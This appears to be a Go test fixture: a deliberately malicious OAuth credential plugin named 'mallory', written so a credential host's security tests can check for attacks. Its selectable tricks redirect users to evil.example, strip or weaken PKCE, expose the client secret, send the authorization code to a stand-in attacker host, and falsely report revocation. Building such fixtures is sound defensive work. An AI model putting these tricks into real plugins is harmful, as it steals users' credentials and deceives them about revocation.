// SPDX-License-Identifier: Apache-2.0

// Command credhost-plugin-mallory is a malicious credential plugin, for the
// tests of package attack. What it does is one of its own questions; without a
// trick it is an honest plugin for any service that speaks OAuth 2.0.
package main

import (
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"

	"github.com/credhost/credhost/sdk"
	"github.com/credhost/credhost/sdk/oauth"
	"github.com/credhost/credhost/sdk/serve"
)

// evil is an address that no answer names.
const evil = "https://evil.example"

var (
	issuer = sdk.Field{Name: "issuer", Title: "Issuer", Kind: sdk.URL}
	client = sdk.Field{Name: "clientId", Title: "Client ID", Default: "client"}
	secret = sdk.Field{Name: "clientSecret", Title: "Client secret", Secret: true, Optional: true}
	trick  = sdk.Field{Name: "trick", Title: "Trick", Optional: true}
)

func main() {
	serve.Plugins(
		mallory{sdk.Schema{Name: "mallory", Origins: []string{"{issuer}"}}},
		mallory{sdk.Schema{Name: "other", Origins: []string{"{issuer}"}}},
		mallory{sdk.Schema{Name: "strict", Origins: []string{"{issuer}"}, Issuer: "{issuer}"}},
		mallory{sdk.Schema{Name: "loose", Origins: []string{"{issuer}", evil}}},
		mallory{sdk.Schema{Name: "bare", Origins: []string{"{issuer}"}, NoPKCE: true}},
	)
}

type mallory struct{ schema sdk.Schema }

// Schema implements [sdk.Plugin].
func (m mallory) Schema() sdk.Schema {
	s := m.schema
	s.Title, s.Fields = "Mallory", []sdk.Field{issuer, client, secret, trick}
	return s
}

func oauthClient(in sdk.Input) oauth.Client {
	at := in.Get(issuer)
	return oauth.Client{ID: in.Get(client), Secret: in.Get(secret), AuthURL: at + "/authorize", TokenURL: at + "/token"}
}

// tricks change the address to which an honest plugin would send the person.
var tricks = map[string]func(in sdk.Input, cb sdk.Callback, u *url.URL, q url.Values){
	"page":         func(_ sdk.Input, _ sdk.Callback, u *url.URL, _ url.Values) { u.Host = "evil.example" },
	"redirect":     func(_ sdk.Input, _ sdk.Callback, _ *url.URL, q url.Values) { q.Set("redirect_uri", evil+"/take") },
	"redirects":    func(_ sdk.Input, _ sdk.Callback, _ *url.URL, q url.Values) { q.Add("redirect_uri", evil+"/take") },
	"request":      func(_ sdk.Input, _ sdk.Callback, _ *url.URL, q url.Values) { q.Set("request", evil+"/take") },
	"unchallenged": unchallenged,
	"plain": func(_ sdk.Input, cb sdk.Callback, _ *url.URL, q url.Values) {
		q.Set("code_challenge", cb.Verifier)
		q.Set("code_challenge_method", "plain")
	},
	"implicit": func(_ sdk.Input, _ sdk.Callback, _ *url.URL, q url.Values) { q.Set("response_type", "token") },
	"posted":   func(_ sdk.Input, _ sdk.Callback, _ *url.URL, q url.Values) { q.Set("response_mode", "form_post") },
	"fragment": func(_ sdk.Input, _ sdk.Callback, u *url.URL, _ url.Values) { u.Fragment = "elsewhere" },
	"secret":   func(in sdk.Input, _ sdk.Callback, _ *url.URL, q url.Values) { q.Set("hint", in.Get(secret)) },
	"invented": func(_ sdk.Input, _ sdk.Callback, _ *url.URL, q url.Values) {
		clear(q)
		q.Set("client_id", "client")
		q.Set("request_uri", "urn:ietf:params:oauth:request_uri:invented")
	},
}

func unchallenged(_ sdk.Input, _ sdk.Callback, _ *url.URL, q url.Values) {
	q.Del("code_challenge")
	q.Del("code_challenge_method")
}

// Connect implements [sdk.Connector].
func (mallory) Connect(ctx context.Context, in sdk.Input, cb sdk.Callback) (sdk.Approval, error) {
	a := oauthClient(in).Approval(cb)
	u, err := url.Parse(a.URL)
	if err != nil {
		return a, err
	}
	q := u.Query()
	switch name := in.Get(trick); name {
	case "device":
		return device(ctx, in)
	case "metadata": // it reads what the service promises, and says nothing of it
		r, err := http.NewRequestWithContext(ctx, http.MethodGet, in.Get(issuer)+"/.well-known/oauth-authorization-server", nil)
		if err != nil {
			return a, err
		}
		return a, sdk.Send(r, nil)
	case "pushed", "pushed-unchallenged":
		if name != "pushed" {
			unchallenged(in, cb, u, q)
		}
		return pushed(ctx, in, q)
	default:
		if change := tricks[name]; change != nil {
			change(in, cb, u, q)
		}
	}
	u.RawQuery = q.Encode()
	a.URL = u.String()
	return a, nil
}

// post sends a form, and decodes what comes into v.
func post(ctx context.Context, to string, form url.Values, v any) error {
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, to, strings.NewReader(form.Encode()))
	if err != nil {
		return err
	}
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	_, body, err := sdk.Fetch(r)
	if err != nil {
		return err
	}
	if json.Unmarshal(body, v) != nil {
		return sdk.Errorf(sdk.Unavailable, "the service did not answer with JSON")
	}
	return nil
}

// pushed pushes the parameters (RFC 9126).
func pushed(ctx context.Context, in sdk.Input, q url.Values) (sdk.Approval, error) {
	var kept struct {
		URI string `json:"request_uri"`
	}
	if err := post(ctx, in.Get(issuer)+"/par", q, &kept); err != nil {
		return sdk.Approval{}, err
	}
	short := url.Values{"client_id": q["client_id"], "request_uri": {kept.URI}}
	return sdk.Approval{URL: in.Get(issuer) + "/authorize?" + short.Encode()}, nil
}

// device begins a device flow (RFC 8628).
func device(ctx context.Context, in sdk.Input) (sdk.Approval, error) {
	var code struct {
		Device string `json:"device_code"`
		User   string `json:"user_code"`
	}
	err := post(ctx, in.Get(issuer)+"/device", url.Values{"client_id": {in.Get(client)}}, &code)
	return sdk.Approval{URL: in.Get(issuer) + "/activate", UserCode: code.User, State: []byte(code.Device)}, err
}

// Exchange implements [sdk.Connector].
func (mallory) Exchange(ctx context.Context, in sdk.Input, cb sdk.Callback) (sdk.Grant, error) {
	c := oauthClient(in)
	switch in.Get(trick) {
	case "leak":
		var nothing struct{}
		post(ctx, evil+"/take", url.Values{"code": {cb.Query.Get("code")}}, &nothing) // and all goes on as ever
	case "unchallenged", "pushed-unchallenged":
		c.NoPKCE = true
	case "device":
		return granted(c.Request(ctx, url.Values{"grant_type": {"urn:ietf:params:oauth:grant-type:device_code"}, "device_code": {string(cb.Kept)}}))
	}
	return granted(c.Exchange(ctx, cb))
}

// Grant implements [sdk.Plugin].
func (mallory) Grant(ctx context.Context, in sdk.Input) (sdk.Grant, error) {
	return granted(oauthClient(in).Refresh(ctx, in.State))
}

func granted(tok oauth.Token, err error) (sdk.Grant, error) {
	if err != nil {
		return sdk.Grant{}, err
	}
	g := tok.Grant()
	g.Account = tok.Extra("account")
	return g, nil
}

// Test implements [sdk.Tester].
func (mallory) Test(ctx context.Context, in sdk.Input, g sdk.Grant) error {
	return sdk.Probe(ctx, g, in.Get(issuer)+"/me", nil)
}

// Revoke implements [sdk.Revoker]. With the trick it only says that it did.
func (mallory) Revoke(ctx context.Context, in sdk.Input, g sdk.Grant) error {
	if in.Get(trick) == "lie" {
		return nil
	}
	tok, err := oauth.Restore(in.State)
	if err != nil {
		return err
	}
	var nothing struct{}
	return post(ctx, in.Get(issuer)+"/revoke", url.Values{"token": {tok.RefreshToken}}, &nothing)
}
